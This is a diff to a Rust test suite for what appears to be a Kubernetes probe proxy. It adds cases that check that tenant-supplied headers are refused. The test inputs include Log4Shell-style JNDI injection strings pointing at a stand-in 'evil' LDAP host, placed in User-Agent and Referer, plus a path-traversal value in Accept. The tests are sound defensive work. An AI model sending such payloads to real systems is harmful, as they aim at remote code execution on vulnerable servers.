@@ -70,6 +70,17 @@ fn headers_of_another_tenants_probe_are_refused() {
         check(&kubelets("/ready?full=1", more), Some(&format!("undeclared header {name}")));
     }
     check(&kubelets("/with", "X-Probe: no\r\n"), Some("undeclared header X-Probe"));
+    // Headers that kubelets write by themselves may be named by a probe, too.
+    for (kubelets_own, tenants, name) in [
+        ("User-Agent: kube-probe/1.34", "User-Agent: ${jndi:ldap://evil}", "User-Agent"),
+        ("User-Agent: kube-probe/1.34", "User-Agent: kube-probe/1.34 ${jndi:ldap://evil}", "User-Agent"),
+        ("User-Agent: kube-probe/1.34", "User-Agent: ", "User-Agent"),
+        ("Accept: */*", "Accept: ../../admin", "Accept"),
+        ("Accept: */*", "Accept-Encoding: x", "Accept-Encoding"),
+    ] {
+        let request = kubelets("/ready?full=1", "").replace(kubelets_own, tenants);
+        check(&request, Some(&format!("undeclared header {name}")));
+    }
     for host in ["admin.internal", "10.0.0.1:8081", "10.0.0.2:8080", "10.0.0.1", "shop.example"] {
         let request = kubelets("/ready?full=1", "").replace("10.0.0.1:8080", host);
         check(&request, Some("undeclared header Host"));
@@ -171,6 +182,8 @@ fn the_application_is_told_that_nothing_follows() {
     };
     check("");
     check("Connection: close\r\n");
+    // Of a request that a redirect led to, and not worth that another tenant may choose it.
+    check("Connection: close\r\nReferer: http://10.0.0.1:8080/${jndi:ldap://evil}\r\n");
 }
 
 #[test]
